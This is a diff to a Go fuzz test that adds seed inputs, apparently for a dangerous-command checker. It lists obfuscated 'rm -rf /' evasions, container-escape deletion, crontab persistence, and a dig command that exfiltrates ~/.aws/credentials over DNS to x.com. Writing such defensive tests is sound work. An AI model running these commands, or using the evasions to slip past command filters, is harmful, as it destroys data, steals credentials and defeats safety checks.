@@ -15,7 +15,13 @@ func FuzzCheck(f *testing.F) {
 		"$'\\x72\\x6d' -rf /", "echo $(echo $(echo $(ls)))", "f(){ f; }; f", "a=$a$a; $a", "x <<EOF\n$(rm -rf /)\nEOF",
 		"find / -exec sh -c 'rm -rf {}' \\;", "echo / | xargs -I{} rm -rf {}", "cd / && rm -rf *",
 		"python -c 'import os; os.system(\"rm -rf /\")'", "sed 's/x/y/e'", "awk 'BEGIN{system(\"id\")}'",
-		"eval eval eval eval eval eval eval eval eval eval rm -rf /", "\"unterminated", "((", "${x:?}", "`ls`"}
+		"eval eval eval eval eval eval eval eval eval eval rm -rf /", "\"unterminated", "((", "${x:?}", "`ls`",
+		// Evasions: hidden names and targets, side doors, containers, persistence.
+		"/bin/r? -rf /", "IFS=,; x=rm,-rf,/; $x", "rm${IFS}-rf${IFS}/", "$(printf '\\x72\\x6d') -rf ~",
+		"rm -rf ${HOME%/*}", "rm -rf ${HOME//u/}", "rm -rf ${HOME:0:1}", "f(){ rm -rf \"$1\"; }; f /",
+		"bash <(echo 'rm -rf ~')", "python3 - <<< 'import shutil; shutil.rmtree(\"/\")'",
+		"docker run -v /:/host alpine chroot /host rm -rf /", "echo '* * * * * rm -rf ~' | crontab -",
+		"dig $(cat ~/.aws/credentials | base64).x.com", "cd ../../../.. && rm -rf *", "${x/#*/\\/}"}
 	for _, s := range seeds {
 		f.Add(s)
 	}
